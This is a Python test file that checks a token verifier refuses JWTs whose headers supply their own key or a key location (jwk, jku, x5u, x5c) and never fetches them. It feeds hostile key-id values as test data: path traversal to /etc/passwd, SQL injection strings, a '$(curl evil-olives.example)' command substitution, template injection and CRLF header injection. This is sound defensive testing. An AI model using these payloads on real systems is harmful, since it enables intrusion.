"""UO-06: the token brings its own key, says where to fetch it, or names it with a path, a query or an address."""

from __future__ import annotations

import json
from typing import Any

from tests.attacks.upstream import Attempt, OwnKeys, let_in, refuse_mutation, refuse_token
from tests.support.https import Answer, LocalHttps
from tests.support.jose import public, rsa_key, token
from tests.support.world import World


def test_uo_06_a_key_or_its_place_in_the_header_is_refused_and_never_fetched(world: World) -> None:
    keys, browser, stranger = OwnKeys(world), world.browser(), rsa_key("attack-2")
    document = json.dumps({"keys": [public(stranger)]}).encode()
    with LocalHttps(lambda _: Answer(200, document, {"Content-Type": "application/json"})) as canary:
        hostile: list[dict[str, Any]] = [
            {"jwk": public(stranger)},
            {"jku": f"{canary.origin}/keys"},
            {"x5u": f"{canary.origin}/chain.pem"},
            {"x5c": ["MIIB"]},
            {"jku": f"{canary.origin}/keys", "kid": "attack-2"},
            {"jwk": public(stranger), "kid": None},
            {"JKU": f"{canary.origin}/keys"},
            {"iss": canary.origin},
            {"url": canary.origin, "nonce": "n"},
        ]
        for header in hostile:
            # The signature is right for whoever believes the header, and for whoever looks the kid up.
            for signer in (stranger, keys.key):
                attempt = Attempt.begin(world, browser=browser)
                refuse_token(attempt, token(signer, keys.claims(attempt), **{"kid": "attack-1", **header}), "header")
        refuse_mutation(world, "header", preset="jku_header", browser=browser)
        assert canary.connections == 0


def test_uo_06_a_hostile_kid_is_at_most_unknown(world: World) -> None:
    keys, browser = OwnKeys(world), world.browser()
    with LocalHttps() as canary:
        for kid in (
            f"{canary.origin}/keys",
            "../../../../etc/passwd",
            "/dev/null",
            "' OR '1'='1",
            "attack-1'--",
            "attack-1 ",
            "Attack-1",
            "%61ttack-1",
            "__proto__",
            "$(curl evil-olives.example)",
            "{{7*7}}",
            "x" * 128,
        ):
            attempt = Attempt.begin(world, browser=browser)
            refuse_token(attempt, keys.sign(attempt, {"kid": kid}), "kid")
        unacceptable: list[Any] = ["", "x" * 129, "attack-1\x00", "\r\nSet-Cookie: a=b", "клюc", ["attack-1"], 1, True]
        for kid in unacceptable:
            attempt = Attempt.begin(world, browser=browser)
            refuse_token(attempt, keys.sign(attempt, {"kid": kid}), "header")
        refuse_mutation(world, "header", preset="missing_kid", browser=browser)
        assert canary.connections == 0


def test_uo_06_thumbprints_are_passed_over_and_the_plain_header_signs_in(world: World) -> None:
    world.signed_in()
    keys = OwnKeys(world)
    for header in ({}, {"x5t": "attack-2"}, {"typ": None}):
        attempt = Attempt.begin(world)
        assert let_in(attempt.deliver_token(keys.sign(attempt, header)))
